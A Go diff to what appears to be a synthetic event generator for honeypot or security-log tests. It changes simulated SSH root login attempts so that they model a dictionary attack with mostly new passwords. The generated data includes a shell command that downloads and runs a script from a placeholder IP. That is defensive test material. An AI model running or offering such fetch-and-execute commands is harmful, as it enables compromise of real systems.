@@ -15,8 +15,9 @@ import (
 var Base = time.Date(2026, 11, 26, 10, 0, 0, 0, time.UTC)
 
 // Event returns event i of the mix. Ids are distinct per i and stable across
-// runs; one event in three is an ssh auth_attempt carrying a credential, so
-// AuthEvents(n) of the first n events carry one.
+// runs; one event in three is an ssh auth_attempt carrying a credential (a
+// new password almost every time), so AuthEvents(n) of the first n events
+// carry one.
 func Event(i int) model.Event {
 	ev := model.Event{
 		ID:      fmt.Sprintf("00000000-0000-7000-8000-%012d", i),
@@ -32,7 +33,9 @@ func Event(i int) model.Event {
 		ev.SessionID = fmt.Sprintf("s%d", i/30)
 		ev.Fields = map[string]string{"command": fmt.Sprintf("cd /tmp; wget http://203.0.113.9/x%d.sh; sh x%d.sh", i%97, i%97)}
 	case 1:
-		pw := fmt.Sprintf("pw%d", i%50)
+		// A dictionary attack: every attempt tries another password, so
+		// nearly every attempt is a new credential row, the costly case.
+		pw := fmt.Sprintf("pw%d", (i/3)%20000)
 		ev.Service, ev.EventType = "ssh", "auth_attempt"
 		ev.Fields = map[string]string{"username": "root", "principal": "root", "secret_kind": "plaintext",
 			"secret_printable": pw, "secret_b64": base64.StdEncoding.EncodeToString([]byte(pw)), "outcome": model.OutcomeFailure}
